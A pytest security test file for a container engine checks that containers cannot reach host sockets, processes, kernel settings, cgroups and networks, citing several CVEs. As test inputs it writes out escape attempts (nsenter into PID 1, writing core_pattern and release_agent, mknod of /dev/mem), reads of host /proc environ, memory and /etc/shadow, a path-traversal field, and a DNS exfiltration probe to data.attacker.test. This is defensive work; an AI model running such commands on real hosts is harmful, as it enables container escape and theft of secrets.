"""What a container can reach of host and engine: sockets, processes, kernel settings, cgroups, networks."""

import json
import os
import socket
import stat
import subprocess
from pathlib import Path

import pytest

from tests.security.support import Containers
from tests.support.client import Client
from tests.support.engine import Sampand
from tests.support.poll import until

# Sockets


def test_the_engine_listens_on_no_abstract_address(own: Sampand, docker: Client, image: str) -> None:
    """CVE-2020-15257: those belong to the network namespace, so --network host reaches them."""
    docker.ok("run", "-d", image, "sleep", "1000")
    inodes = {
        os.readlink(f"/proc/{pid}/fd/{fd}")
        for pid in _engines_processes(own)
        for fd in os.listdir(f"/proc/{pid}/fd")
        if os.path.islink(f"/proc/{pid}/fd/{fd}")
    }
    for line in Path(f"/proc/{own.pid}/net/unix").read_text().splitlines()[1:]:
        fields = line.split()
        if f"socket:[{fields[6]}]" in inodes and len(fields) > 7:
            assert not fields[7].startswith("@"), line
    shown = docker.ok("run", "--rm", "--network", "host", image, "cat", "/proc/net/unix")
    assert not [line for line in shown.splitlines() if "@" in line and own.token in line]


def _engines_processes(own: Sampand) -> list[int]:
    """Daemon, launcher, shims."""
    found = [own.pid]
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and b"sampan-shim" in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_sockets_of_shims_are_for_root_on_the_host_only(
    own: Sampand, containers: Containers, docker: Client, image: str
) -> None:
    made = containers.start(image, "sleep", "1000")
    path = own.exec / "containers" / made.id / "shim.sock"
    assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
    for directory in path.parents:
        if directory.stat().st_mode & 0o007 == 0:
            break
    else:
        raise AssertionError(f"anybody can walk to {path}")
    assert made.exec("ls", str(path))[0] != 0, "not to be seen inside"
    assert (
        docker("run", "--rm", "--user", "app", "-v", f"{own.exec}:/x", image, "ls", "/x/containers").code != 0
    )


def test_a_shim_survives_whatever_is_said_to_it(own: Sampand, containers: Containers, image: str) -> None:
    """By root, or by who stole a descriptor; what is no request ends that connection and nothing else."""
    made = containers.start(image, "sleep", "1000")
    directory = os.open(own.exec / "containers" / made.id, os.O_PATH | os.O_DIRECTORY)
    messages = [
        b"\0",
        b"{",
        b"[" * 100_000,
        b"[]",
        b"1",
        b'"op"',
        b"\xff\xfe",
        json.dumps({"op": "no-such", "seq": 1}).encode(),
        json.dumps({"seq": 1}).encode(),
        json.dumps({"op": "exec", "seq": 1, "id": "../../../etc/passwd"}).encode(),
        json.dumps({"op": "exec", "seq": 1}).encode(),
        json.dumps({"op": "attach", "seq": 1}).encode(),
        json.dumps({"op": "attach", "seq": 1, "attach": {}}).encode(),
        json.dumps({"op": "kill", "seq": 1, "signal": "nine"}).encode(),
        json.dumps({"op": "kill", "seq": 1, "signal": 10**30}).encode(),
        json.dumps({"op": "resize", "seq": 1, "exec": None, "height": -1, "width": 10**9}).encode(),
        json.dumps({"op": "kill", "seq": 1, "exec": {}, "signal": 9}).encode(),
    ]
    try:
        for message in messages:
            with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as connection:
                connection.settimeout(10)
                connection.connect(f"/proc/self/fd/{directory}/shim.sock")
                connection.send(message)
                connection.recv(65536)  # an error, or the end
    finally:
        os.close(directory)
    assert made.exec("echo", "alive") == (0, "alive\n")
    assert own.api.get(f"/containers/{made.id}/json").json["State"]["Running"]


def test_what_a_container_says_is_held_within_bounds(
    own: Sampand, containers: Containers, image: str
) -> None:
    """CVE-2022-31030: the output of a probe was kept in memory, all of it."""
    pour = "head -c 200000000 /dev/zero | tr '\\0' x"
    check = {"Test": ["CMD-SHELL", pour], "Interval": 50_000_000, "Timeout": 60_000_000_000}
    made = containers.start(image, "sh", "-c", f"{pour} >/dev/null; sleep 1000", Healthcheck=check)

    def log() -> list[dict[str, str]]:
        found: list[dict[str, str]] = own.api.get(f"/containers/{made.id}/json").json["State"]["Health"][
            "Log"
        ]
        return found

    until(log, "a probe's end", seconds=60)
    assert len(log()[0]["Output"]) <= 4096 + 3
    pid = own.api.get(f"/containers/{made.id}/json").json["State"]["Pid"]
    shim = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    peak = int(Path(f"/proc/{shim}/status").read_text().partition("VmHWM:")[2].split()[0])
    assert peak < 64 << 10, "kB"


# Processes


PEEK = """
for pid in PIDS; do
  for f in environ mem maps root/etc/shadow cwd/. exe fd/0 fd/3 ns/mnt; do
    head -c 1 /proc/$pid/$f >/dev/null 2>&1 && echo read $f
    readlink /proc/$pid/$f >/dev/null 2>&1 && echo link $f
  done
  ls /proc/$pid/root/ /proc/$pid/fd >/dev/null 2>&1 && echo listed
done
true
"""


def test_the_hosts_processes_are_named_but_not_opened_with_pid_host(
    own: Sampand, docker: Client, containers: Containers, image: str
) -> None:
    """Without SYS_PTRACE: daemon and shims have capabilities that it lacks. It may still signal them."""
    containers.start(image, "sleep", "1000")
    pids = " ".join(map(str, _engines_processes(own)))
    shown = docker.ok("run", "--rm", "--pid", "host", image, "sh", "-c", PEEK.replace("PIDS", pids))
    assert shown == "", shown
    assert "sampan" in docker.ok("run", "--rm", "--pid", "host", image, "ps", "-o", "args"), "named they are"


def test_a_container_has_no_way_to_a_process_outside(
    containers: Containers, docker: Client, image: str
) -> None:
    one = containers.start(image, "sleep", "1000")
    assert one.exec("sh", "-c", "ls -d /proc/[0-9]* | wc -l")[1].strip() <= "4"
    one.exec("kill", "-9", "-1")
    assert docker.ok("run", "--rm", image, "echo", "others live") == "others live"


# Kernel settings


@pytest.mark.parametrize(
    "path",
    [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hotplug",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/vm/panic_on_oom",
        "/proc/sysrq-trigger",
        "/proc/irq/default_smp_affinity",
        "/sys/kernel/uevent_helper",
        "/sys/power/state",
        "/sys/module",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/kernel/mm/transparent_hugepage/enabled",
    ],
)
@pytest.mark.parametrize("flags", [[], ["--cap-add", "ALL"], ["--cgroupns", "host"]], ids=" ".join)
def test_settings_of_the_host_are_read_only(docker: Client, image: str, path: str, flags: list[str]) -> None:
    """A core_pattern of a container's would have the kernel start its program on the host."""
    before = Path(path).read_bytes() if os.path.isfile(path) and os.access(path, os.R_OK) else b""
    shell = f"[ -e {path} ] || exit 7; touch {path}/x 2>&1 || : ; echo x > {path}"
    result = docker("run", "--rm", *flags, image, "sh", "-c", shell)
    assert result.code != 0, str(result)
    if before and "cgroup.procs" not in path:
        assert Path(path).read_bytes() == before


@pytest.mark.parametrize(
    "line",
    [
        "unshare -Ur true",
        "unshare -UrC true",
        "unshare -m true",
        "mount -t tmpfs none /tmp",
        "mount -t cgroup -o memory none /tmp",
        "mount -t cgroup2 none /tmp",
        "mount -o remount,rw /sys",
        "mount -o remount,rw /sys/fs/cgroup",
        "mount -o remount,rw /proc/sys",
        "umount /proc/kcore",
        "mount -t proc none /tmp",
        "chroot / mount -t tmpfs none /tmp",
        "insmod /bin/busybox",
        "swapon /bin/busybox",
        "hostname other",
        "reboot -f",
        "mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk",
        "mknod /tmp/mem c 1 1 && head -c 1 /tmp/mem",
        "mknod /tmp/kmsg c 1 11 && head -c 1 /tmp/kmsg",
        "dmesg",
        "nsenter -t 1 -m true",
        "nsenter -t 1 -n true",
        "ip link add type dummy",
    ],
)
def test_what_a_default_container_may_not_do(docker: Client, image: str, line: str) -> None:
    """CVE-2022-0492 among them: a cgroup mount of its own, whose release_agent the host would run."""
    assert docker("run", "--rm", image, "sh", "-c", line).code != 0


def test_no_release_agent_can_be_written(docker: Client, image: str) -> None:
    """CVE-2022-0492. v1 has the file at a hierarchy's root only, which is not mounted; v2 has none."""
    found = "find /sys/fs/cgroup -name release_agent -o -name notify_on_release"
    shell = f"{found} | while read f; do echo 1 > $f && echo $f; done"
    for flags in ([], ["--cap-add", "DAC_OVERRIDE"], ["--cgroupns", "host"], ["--cgroupns", "private"]):
        assert docker("run", "--rm", *flags, image, "sh", "-c", shell).out == ""


def test_a_cgroup_of_the_hosts_namespace_is_read_only(docker: Client, image: str) -> None:
    """CVE-2023-25809: /sys/fs/cgroup of a container without a cgroup namespace could be written."""
    for mode in ("host", "private"):
        shown = docker.ok("run", "--rm", "--cgroupns", mode, image, "grep", " /sys/fs/cgroup", "/proc/mounts")
        for line in shown.splitlines():
            assert line.split()[3].split(",")[0] == "ro", line
        assert docker("run", "--rm", "--cgroupns", mode, image, "mkdir", "/sys/fs/cgroup/x").code != 0


# Networks


def test_bridges_listen_to_no_router_advertisement(docker: Client, unique: str) -> None:
    """CVE-2020-13401: a container announces itself as the host's router."""
    docker.ok("network", "create", unique)
    docker.ok("network", "create", "--ipv6", "--subnet", "fd00:5ec::/64", f"{unique}-6")
    for name in (unique, f"{unique}-6"):
        bridge = "br-" + docker.inspect(name, "network")["Id"][:12]
        assert Path(f"/proc/sys/net/ipv6/conf/{bridge}/accept_ra").read_text() == "0\n"


def test_a_network_without_ipv6_has_none(docker: Client, image: str, unique: str) -> None:
    """CVE-2024-32473: link-local addresses and multicast on interfaces that were said to be IPv4 only."""
    docker.ok("network", "create", unique)
    shown = docker.ok("run", "--rm", "--network", unique, image, "cat", "/proc/net/if_inet6")
    assert [line for line in shown.splitlines() if not line.endswith(" lo")] == []


def test_names_are_not_asked_outside_for_an_internal_network(docker: Client, image: str, unique: str) -> None:
    """CVE-2024-29018: queries were forwarded from the host, and so data could leave with them."""
    docker.ok("network", "create", "--internal", unique)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("192.0.2.2", 53)) if _has("192.0.2.2") else server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        for name in ("leaks.example.org", "data.attacker.test"):
            result = docker("run", "--rm", "--network", unique, "--dns", "192.0.2.2", image, "nslookup", name)
            assert result.code != 0, str(result)
        with pytest.raises(BlockingIOError):
            server.recv(512)


def _has(address: str) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.bind((address, 0))
        except OSError:
            return False
    return True


def test_authorization_that_cannot_be_given_is_refused(own: Sampand, directory: Path) -> None:
    """CVE-2024-41110: a plugin that was not asked. There are none here, and serving without is no answer."""
    config = directory / "daemon.json"
    config.write_text(json.dumps({"authorization-plugins": ["opa"]}))
    command = [*own.program, "--validate", "--config-file", str(config)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=30)
    assert done.returncode == 1 and "authorization plugins are not supported" in done.stderr
